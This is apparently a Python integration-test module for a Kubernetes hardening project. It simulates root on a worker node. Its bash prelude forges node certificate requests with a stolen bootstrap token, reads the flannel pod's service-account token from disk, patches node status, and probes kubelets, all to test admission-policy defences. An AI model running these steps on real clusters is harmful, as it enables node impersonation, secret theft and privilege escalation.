"""What root on a worker of Kubernetes tries, and what a cluster as kubeadm makes it would let it do."""

import json
from collections.abc import Sequence
from typing import Any

from tests.integration.boots.attacks import ATTACKER, LIMITS, STOLEN, VICTIM, Defence, Stage
from tests.integration.boots.standing import Standing

TOKEN = "abcdef.0123456789abcdef"
"""A bootstrap token that fell into the attacker's hands."""
ADMIN = "export KUBECONFIG=/etc/kubernetes/admin.conf"

PRELUDE = """
[ -e STOLEN/key ] || openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out STOLEN/key
# csr SUBJECT: a request, in base64
csr() { openssl req -new -key STOLEN/key -subj "$1" -outform DER | base64 -w 0; }
of() { csr "/O=system:nodes/CN=system:node:$1"; }
K=(kubectl --kubeconfig /dev/null --request-timeout 10s --server "https://$BAY_CLUSTER")
K+=(--certificate-authority /etc/bay/pki/ca.crt)
OWN=/var/lib/kubelet/pki/kubelet-client-current.pem
run() { "$@" 2>&1; echo "code $?"; }
kubelet() { run "${K[@]}" --client-certificate "$OWN" --client-key "$OWN" "$@"; }
pod() { for one in /var/lib/kubelet/pods/*/containers/"$1"; do echo "${one%/containers/*}"; done; }
word() { cat "$(pod kube-flannel)"/volumes/kubernetes.io~projected/*/token; }
network() { run "${K[@]}" --token "$(word)" "$@"; }
C=(curl --silent --max-time 10 --cacert /etc/bay/pki/ca.crt --write-out '\\nhttp %{http_code}\\n')
# patch NODE CHANGE: its status, by the network's account; kubectl would read it first
patch() {
  "${C[@]}" --request PATCH --header "Authorization: Bearer $(word)" --data "$2" \\
    --header 'Content-Type: application/merge-patch+json' "https://$BAY_CLUSTER/api/v1/nodes/$1/status"
}
bootstrap() { run "${K[@]}" --token TOKEN "$@"; }
# request NAME SUBJECT SIGNER: a CertificateSigningRequest
request() {
  cat <<END
apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: "$1"}
spec:
  request: $(openssl req -new -key STOLEN/key -subj "$2" | base64 -w 0)
  signerName: kubernetes.io/${3:-kube-apiserver-client-kubelet}
  usages: [client auth, digital signature]
END
}
# certified WHO SUBJECT [SIGNER]: asks for a certificate, and says what became of it
certified() {
  local name="stolen-$RANDOM$RANDOM"
  request "$name" "$2" "${3:-}" | "$1" create -f -
  sleep 3
  kubelet get certificatesigningrequests "$name" --output 'jsonpath=state:{.status.conditions[*].type}{"\\n"}'
}
# ask PATH: a kubelet, with the worker's own certificate
ask() { curl --silent --insecure --max-time 5 --cert "$OWN" --key "$OWN" --output /dev/null \\
  --write-out 'http %{http_code}\\n' "$1"; }
""".replace("STOLEN", STOLEN).replace("TOKEN", TOKEN)


def defences() -> dict[str, Defence]:
    """What is taken away for a control; with it gone a cluster is as kubeadm makes it."""
    again = f"""{ADMIN}; rm -f /etc/bay/applied/access.yaml; systemctl start bay-manifests.service
    kubectl label nodes --selector bay.group=node node-role.kubernetes.io/control-plane- topology.kubernetes.io/zone-
    kubectl annotate nodes --all flannel.alpha.coreos.com/public-ip-overwrite- flannel.alpha.coreos.com/note-"""
    addresses = "systemctl restart kubelet.service; sleep 10"  # a kubelet then says again which ones it has
    policies = "kubectl delete validatingadmissionpolicybinding bay-door bay-own-node; sleep 15"
    return {"limits": LIMITS, "policies": Defence(f"{ADMIN}; {policies}", again, addresses)}


def prepare(stage: Stage) -> None:
    """Secrets that a pod on the victim, and one on the attacker, mount; rights that kubeadm gives bootstrap tokens."""
    bay = stage.bay
    for place in (ATTACKER, VICTIM):
        documents = "\n---\n".join(json.dumps(one) for one in _work(bay, place))
        bay.inside("master-0", f"{ADMIN}; kubectl apply -f - <<'END'\n{documents}\nEND")
    rights = "system:certificates.k8s.io:certificatesigningrequests:nodeclient"
    group = "system:bootstrappers:kubeadm:default-node-token"
    bind = "kubectl create clusterrolebinding"
    bay.inside(
        "master-0",
        f"""{ADMIN}
        kubeadm token create {TOKEN} --ttl 2h
        {bind} kubeadm:kubelet-bootstrap --clusterrole=system:node-bootstrapper --group={group}
        {bind} kubeadm:node-autoapprove-bootstrap --clusterrole={rights} --group={group}
        kubectl wait --for condition=Ready pod --selector app=work --timeout 120s""",
    )


def clear(stage: Stage) -> None:
    """What `prepare` made, and what the attacker left."""
    bay = stage.bay
    bay.inside(
        "master-0",
        f"""{ADMIN}
        kubeadm token delete {TOKEN}
        kubectl delete clusterrolebinding kubeadm:kubelet-bootstrap kubeadm:node-autoapprove-bootstrap
        kubectl delete pods,secrets,serviceaccounts --selector app=work --now
        kubectl delete certificatesigningrequests --all""",
    )
    # Its own entry went with the certificate of the control; a kubelet makes it when it starts, with another range.
    bay.inside(ATTACKER, "ip link delete cni0; systemctl restart kubelet.service")
    node = f"{bay.name}-{ATTACKER}"
    bay.inside(
        "master-0",
        f"""{ADMIN}
        kubectl wait --for condition=Ready node/{node} --timeout 120s
        kubectl delete pods --namespace kube-system --selector app=flannel --field-selector spec.nodeName={node}
        kubectl rollout status daemonset/flannel --namespace kube-system --timeout 120s""",
    )


def _work(bay: Standing, place: str) -> Sequence[dict[str, Any]]:
    labels = {"app": "work"}
    container = {
        "name": "web",
        "image": "localhost/bay/web:1",
        "imagePullPolicy": "IfNotPresent",
        "volumeMounts": [{"name": "secret", "mountPath": "/secret"}],
    }
    spec = {
        "nodeName": f"{bay.name}-{place}",
        "serviceAccountName": f"of-{place}",
        "containers": [container],
        "volumes": [{"name": "secret", "secret": {"secretName": f"of-{place}"}}],
    }
    named = {"name": f"of-{place}", "labels": labels}
    return (
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": named},
        {"apiVersion": "v1", "kind": "Secret", "metadata": named, "stringData": {"word": f"secret of {place}"}},
        {"apiVersion": "v1", "kind": "Pod", "metadata": named, "spec": spec},
    )
